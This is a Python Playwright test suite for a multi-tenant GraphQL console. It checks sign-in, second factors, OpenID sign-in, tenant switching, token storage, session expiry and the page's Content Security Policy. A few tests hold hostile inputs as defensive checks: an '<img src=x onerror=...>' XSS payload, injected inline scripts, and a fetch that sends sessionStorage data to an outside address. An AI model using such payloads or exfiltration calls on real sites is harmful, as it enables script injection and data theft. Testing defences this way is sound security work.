"""The page as a person meets it: each test ends with a check that it asked no foreign host and complained of nothing."""

import asyncio
import json
import re
from dataclasses import replace
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page, expect

from supergraph.console import ConsoleConfig, SignInProvider

if TYPE_CHECKING:
    from tests.conftest import Watch
    from tests.supergraph.console.conftest import House

pytestmark = pytest.mark.browser

QUERY = ".graphiql-query-editor .view-lines"
RESULT = "Result Window"


async def sign_in(page: Page, email: str, password: str) -> None:
    await page.get_by_label("E-mail").fill(email)
    await page.get_by_label("Password").fill(password)
    await page.get_by_role("button", name="Sign in", exact=True).click()


async def sign_in_as_both(page: Page) -> None:
    await page.goto("/")
    await sign_in(page, "both@example.com", "both-demo-login")
    await expect(page.locator(QUERY)).to_contain_text("Sample")


async def write_query(page: Page, text: str) -> None:
    await page.locator(QUERY).click()
    await page.keyboard.press("Control+A")
    await page.keyboard.insert_text(text)


async def run(page: Page) -> None:
    await page.get_by_role("button", name="Execute query").click()


async def stored(page: Page, storage: str) -> str:
    return await page.evaluate(f"JSON.stringify({{...{storage}}})")


async def test_a_demo_login_leads_to_the_answer_of_the_sample_query(page: Page):
    await page.goto("/")
    await expect(page).to_have_title("Dovetail")
    await (
        page.get_by_role("region", name="Demo logins")
        .get_by_role("button", name="clerk@acme.example")
        .click()
    )
    await page.get_by_role("button", name="Sign in", exact=True).click()
    await expect(page.get_by_role("group", name="Signed in as")).to_have_text("Carla Clerkclerk@acme.example")
    await expect(page.get_by_role("banner")).to_contain_text("Acme Corporation")
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Road Runner Ltd")


async def test_the_keyboard_is_enough(page: Page):
    await page.goto("/")
    await expect(page.get_by_label("E-mail")).to_be_focused()
    await page.keyboard.type("clerk@acme.example")
    await page.keyboard.press("Tab")
    await page.keyboard.type("clerk-demo-login")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("main")).to_be_focused()
    await expect(page.locator(QUERY)).to_contain_text("Sample")
    await page.locator(".graphiql-query-editor .graphiql-editor").focus()
    await page.keyboard.press("Enter")
    await page.keyboard.press("Control+Enter")
    await expect(page.get_by_label(RESULT)).to_contain_text("Road Runner Ltd")


async def test_a_wrong_password_is_said_and_nothing_is_kept(page: Page):
    await page.goto("/")
    await sign_in(page, "clerk@acme.example", "guess")
    await expect(page.get_by_role("alert")).to_have_text("E-mail or password is wrong.")
    await expect(page.get_by_label("Password")).to_be_focused()
    assert await stored(page, "sessionStorage") == "{}"


async def test_who_has_a_second_factor_is_asked_for_its_code(page: Page, house: "House"):
    house.second_factors["clerk@acme.example"] = "123456"
    await page.goto("/")
    await expect(page.get_by_label("Code of your")).to_have_count(0)
    await sign_in(page, "clerk@acme.example", "clerk-demo-login")
    await expect(page.get_by_label("Code of your")).to_be_focused()
    await page.keyboard.insert_text("000000")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("alert")).to_have_text("The code is wrong.")
    await expect(page.get_by_label("Code of your")).to_have_value("")
    await page.get_by_label("Code of your").fill("123456")
    await page.keyboard.press("Enter")
    await expect(page.locator(QUERY)).to_contain_text("Sample")


class TestWithProviders:
    """A house whose people may sign in by their company's OpenID provider."""

    @pytest.fixture
    def console_config(self) -> ConsoleConfig:
        return ConsoleConfig(
            sign_in="/sign-in",
            providers=[SignInProvider("Acme staff", "/sign-in/oidc/staff")],
            sample_query="query Sample { me { name } }",
        )

    async def test_who_comes_back_from_a_provider_is_signed_in_and_the_address_keeps_nothing(
        self, page: Page, house: "House"
    ):
        house.visitor = house.people["clerk@acme.example"]
        await page.goto("/")
        section = page.get_by_role("region", name="Or sign in with")
        await section.get_by_role("button", name="Acme staff").click()
        await expect(page.get_by_role("group", name="Signed in as")).to_contain_text("Carla Clerk")
        assert page.url == f"{house.origin}/"
        assert house.tickets == {}, "each counts once"

    async def test_who_has_a_second_factor_shows_it_after_the_provider(self, page: Page, house: "House"):
        house.visitor = house.people["clerk@acme.example"]
        house.second_factors["clerk@acme.example"] = "123456"
        await page.goto("/")
        await page.get_by_role("button", name="Acme staff").click()
        await expect(page.get_by_label("Code of your")).to_be_focused()
        await expect(page.get_by_label("Password")).to_have_count(0)
        await page.keyboard.insert_text("123456")
        await page.keyboard.press("Enter")
        await expect(page.get_by_role("group", name="Signed in as")).to_contain_text("Carla Clerk")

    async def test_who_is_refused_reads_why_and_may_sign_in_otherwise(self, page: Page, house: "House"):
        await page.goto("/")
        await page.get_by_role("button", name="Acme staff").click()
        await expect(page.get_by_role("alert")).to_have_text("Nobody here is known as that.")
        assert page.url == f"{house.origin}/"
        await sign_in(page, "clerk@acme.example", "clerk-demo-login")
        await expect(page.get_by_role("group", name="Signed in as")).to_contain_text("Carla Clerk")

    async def test_a_ticket_of_another_browser_signs_nobody_in(self, page: Page, house: "House"):
        house.visitor = house.people["clerk@acme.example"]
        house.tickets["stolen"] = "of another browser"
        await page.goto("/#ticket=stolen")
        await expect(page.get_by_role("alert")).to_have_text("The ticket is not valid.")
        await expect(page.get_by_label("Password")).to_be_visible()
        assert house.sessions == {}


async def test_a_house_without_providers_shows_none(page: Page):
    await page.goto("/")
    await expect(page.get_by_role("button", name="Sign in", exact=True)).to_be_visible()
    await expect(page.get_by_role("region", name="Or sign in with")).to_have_count(0)


async def test_an_error_of_the_endpoint_is_shown_beside_the_data(page: Page):
    await sign_in_as_both(page)
    await write_query(page, 'mutation Award { awardPoints(customer: "1", points: 5) }')
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("loyalty:award")


async def test_changing_the_tenant_keeps_the_query_and_drops_the_answer(page: Page, house: "House"):
    await sign_in_as_both(page)
    await write_query(page, "query Mine { customers { name } }")
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Coyote & Sons")
    await page.get_by_label("Tenant").select_option(label="Globex")
    await expect(page.get_by_label(RESULT)).not_to_contain_text("Coyote & Sons")
    await expect(page.locator(QUERY)).to_contain_text("query Mine")
    await expect(page.get_by_label("Tenant")).to_have_value("globex")
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Springfield Nuclear")
    assert house.introspected == ["acme", "globex"]


async def test_what_is_typed_at_the_moment_of_the_change_is_kept(page: Page):
    await sign_in_as_both(page)
    # Typed and changed within one task of the page: its timers, by which a tab learns of typing, cannot run between.
    await page.locator(QUERY).click()
    await page.keyboard.press("Control+A")
    await page.evaluate(
        """() => {
            document.execCommand("insertText", false, "query Mine { customers { name } }");
            const tenant = document.querySelector(".tenant select");
            tenant.value = "globex";
            tenant.dispatchEvent(new Event("change", { bubbles: true }));
        }"""
    )
    await expect(page.get_by_label("Tenant")).to_have_value("globex")
    await expect(page.locator(QUERY)).to_contain_text("query Mine")


async def test_the_other_tenants_schema_is_the_one_the_editor_knows(page: Page):
    """Also: the workers run, from files of our own. Without them nothing in the editor is checked."""
    await sign_in_as_both(page)
    await write_query(page, "query Stock { warehouses }")
    await expect(page.locator(".graphiql-query-editor .squiggly-error")).to_be_visible()
    workers = {worker.url for worker in page.workers}
    assert any(re.search(r"/console/assets/graphql\.worker-[\w-]+\.js$", worker) for worker in workers)
    await page.get_by_label("Tenant").select_option("globex")
    await write_query(page, "query Stock { warehouses  }")
    await expect(page.locator(".graphiql-query-editor .squiggly-error")).not_to_be_visible()


async def test_the_editor_suggests_fields(page: Page):
    await sign_in_as_both(page)
    await write_query(page, "{ customers { ")
    await page.keyboard.press("Control+Space")
    await expect(page.locator(".suggest-widget")).to_contain_text("name")


async def test_a_tenant_that_refuses_leaves_everything_as_it_was(page: Page, house: "House"):
    await sign_in_as_both(page)
    token = json.loads(json.loads(await stored(page, "sessionStorage"))["dovetail.session"])["token"]
    person, tenant = house.sessions[token]
    house.sessions[token] = (replace(person, tenants=("acme",)), tenant)
    await page.get_by_label("Tenant").select_option("globex")
    await expect(page.get_by_role("banner").get_by_role("alert")).to_have_text("You do not belong to globex.")
    await expect(page.get_by_label("Tenant")).to_have_value("acme")
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Coyote & Sons")


async def test_an_answer_that_comes_after_the_tenant_was_changed_is_not_shown(page: Page, house: "House"):
    await sign_in_as_both(page)
    house.slowness = 1.5
    async with page.expect_response(lambda response: "Sample" in (response.request.post_data or "")) as late:
        async with page.expect_request(lambda request: "Sample" in (request.post_data or "")):
            await run(page)
        await page.get_by_label("Tenant").select_option("globex")
    assert "Coyote & Sons" in await (await late.value).text()
    await expect(page.get_by_label(RESULT)).to_contain_text("You changed person or tenant")
    await expect(page.get_by_label(RESULT)).not_to_contain_text("Coyote & Sons")


async def test_the_token_is_kept_for_this_browser_tab_alone(page: Page):
    await sign_in_as_both(page)
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Coyote & Sons")
    token = json.loads(json.loads(await stored(page, "sessionStorage"))["dovetail.session"])["token"]
    await page.reload()
    await expect(page.get_by_role("group", name="Signed in as")).to_contain_text("Beatrice Both")
    assert token not in await stored(page, "localStorage")
    assert token not in str(await page.context.cookies())
    other = await page.context.new_page()
    await other.goto("/")
    await expect(other.get_by_label("E-mail")).to_be_visible()


async def test_signing_out_ends_the_session_and_forgets_the_token_and_the_answer(page: Page, house: "House"):
    await sign_in_as_both(page)
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Coyote & Sons")
    await page.get_by_role("button", name="Sign out").click()
    await expect(page.get_by_label("E-mail")).to_have_value("")
    assert await stored(page, "sessionStorage") == "{}"
    async with asyncio.timeout(5):
        while house.sessions:  # noqa: ASYNC110 - the page does not wait for it either
            await asyncio.sleep(0.02)
    assert "Coyote" not in await page.content()
    assert "Coyote" not in await stored(page, "localStorage")
    await page.reload()
    await expect(page.get_by_label("E-mail")).to_be_visible()


async def test_a_refused_token_leads_back_to_sign_in_and_the_query_is_still_there(page: Page, house: "House"):
    await sign_in_as_both(page)
    await page.get_by_label("Tenant").select_option("globex")
    await expect(page.get_by_label("Tenant")).to_be_enabled()
    await write_query(page, "query Unsaved { me { name } customers { name } }")
    house.sessions.clear()
    await run(page)
    await expect(page.get_by_role("status")).to_have_text(re.compile("Your session has ended"))
    await expect(page.get_by_label("E-mail")).to_have_value("both@example.com")
    await expect(page.get_by_role("button", name="Execute query")).not_to_be_visible()
    await page.get_by_label("Password").fill("both-demo-login")
    await page.keyboard.press("Enter")
    await expect(page.locator(QUERY)).to_contain_text("query Unsaved")
    await expect(page.get_by_label("Tenant")).to_have_value("globex")
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Springfield Nuclear")


async def test_who_has_left_the_tenant_comes_back_to_another(page: Page, house: "House"):
    await sign_in_as_both(page)
    person, _ = next(iter(house.sessions.values()))
    house.sessions.clear()
    house.people[person.email] = replace(person, tenants=("globex",))
    await run(page)
    await page.get_by_label("Password").fill("both-demo-login")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("banner")).to_contain_text("Globex")
    await run(page)
    await expect(page.get_by_label(RESULT)).to_contain_text("Springfield Nuclear")


async def test_another_person_does_not_find_the_last_ones_work(page: Page, house: "House"):
    await sign_in_as_both(page)
    await write_query(page, "query Secret { customers { name } }")
    house.sessions.clear()
    await run(page)
    await page.get_by_label("E-mail").fill("clerk@acme.example")
    await page.get_by_label("Password").fill("clerk-demo-login")
    await page.keyboard.press("Enter")
    await expect(page.locator(QUERY)).to_contain_text("query Sample")
    assert "Secret" not in await page.content()


async def test_a_session_ends_by_itself_when_its_time_is_over(page: Page, house: "House"):
    house.lifetime = timedelta(seconds=3)
    await sign_in_as_both(page)
    await expect(page.get_by_role("status")).to_have_text(re.compile("Your session has ended"))
    assert await stored(page, "sessionStorage") == "{}"


async def test_a_page_in_use_renews_its_token_and_stays_as_it_is(page: Page, house: "House"):
    house.lifetime = timedelta(seconds=6)
    await sign_in_as_both(page)
    house.lifetime = timedelta(minutes=15)
    async with page.expect_response("**/sign-in/switch"):
        await write_query(page, "query Mine { customers { name } }")
        await run(page)
    await page.wait_for_timeout(3000)  # past the end of the first token
    await expect(page.get_by_label(RESULT)).to_contain_text("Coyote & Sons")
    first, renewed = house.sessions
    assert first not in await stored(page, "sessionStorage")
    assert renewed in await stored(page, "sessionStorage")
    async with page.expect_response("**/graphql"):
        await run(page)
    assert house.headers[-1]["authorization"] == f"Bearer {renewed}"
    assert house.introspected == ["acme"]


async def test_text_from_the_schema_is_never_run(page: Page):
    await sign_in_as_both(page)
    page.on("dialog", lambda _: pytest.fail("a description was run as a script"))
    await page.get_by_role("button", name="Show Documentation Explorer").click()
    await page.get_by_role("link", name="Person").click()
    await expect(page.locator(".graphiql-doc-explorer-content")).to_contain_text(
        "<img src=x onerror=alert(1)>"
    )


async def test_hostile_markup_could_neither_run_nor_send(page: Page, watch: "Watch"):
    watch.expected |= {"Content Security Policy", "status of 404"}
    await page.goto("/")
    await page.evaluate(
        """() => {
            const inline = document.createElement("script");
            inline.textContent = "window.hostile = true";
            document.head.append(inline);
            document.body.insertAdjacentHTML("beforeend", "<img src=/nothing onerror='window.hostile = true'>");
        }"""
    )
    with pytest.raises(PlaywrightError, match="Failed to fetch"):
        await page.evaluate("fetch('http://127.0.0.2/?stolen=' + sessionStorage.length)")
    assert await page.evaluate("window.hostile") is None


@pytest.mark.parametrize(("scheme", "ground"), [("light", "rgb(243, 245, 245)"), ("dark", "rgb(17, 24, 27)")])
async def test_the_page_follows_the_systems_scheme(page: Page, scheme: str, ground: str):
    await page.emulate_media(color_scheme=scheme)
    await page.goto("/")
    assert await page.evaluate("getComputedStyle(document.body).backgroundColor") == ground


async def test_a_gateway_that_is_away_is_said_and_asked_again(page: Page, watch: "Watch"):
    watch.expected |= {"status of 503", "net::ERR_FAILED"}
    await page.route("**/console/config.json", lambda route: route.fulfill(status=503))
    await page.goto("/")
    await expect(page.get_by_role("alert")).to_contain_text("The gateway does not answer")
    await page.unroute("**/console/config.json")
    await page.get_by_role("button", name="Try again").click()
    await page.route("**/sign-in", lambda route: route.abort())
    await sign_in(page, "clerk@acme.example", "clerk-demo-login")
    await expect(page.get_by_role("alert")).to_contain_text("The server cannot be reached.")
    await expect(page.get_by_role("button", name="Sign in", exact=True)).to_be_enabled()


class TestWithoutSignIn:
    """A gateway that stands alone."""

    @pytest.fixture
    def console_config(self) -> ConsoleConfig:
        return ConsoleConfig(sample_query="query Alone { me { name } }")

    async def test_headers_are_written_by_hand_and_never_stored(self, page: Page, house: "House"):
        await page.goto("/")
        await expect(page.locator(QUERY)).to_contain_text("query Alone")
        await expect(page.get_by_role("button", name="Sign out")).not_to_be_visible()
        await page.get_by_role("button", name="Headers").click()
        await page.locator(".graphiql-editor-tool .graphiql-editor:not(.hidden) .view-lines").click()
        await page.keyboard.insert_text('{"Authorization": "Bearer by-hand"}')
        await page.wait_for_timeout(300)  # GraphiQL takes notice of them a tenth of a second late
        await run(page)
        await expect(page.get_by_label(RESULT)).to_contain_text("The token is not valid.")
        assert house.headers[-1]["authorization"] == "Bearer by-hand"
        await page.get_by_role("button", name="Show History").click()
        await expect(page.get_by_role("list").get_by_text("Alone")).to_be_visible()
        await page.wait_for_timeout(700)  # GraphiQL stores its tabs half a second late
        assert "by-hand" not in await stored(page, "localStorage")
        assert "Alone" in await stored(page, "localStorage")
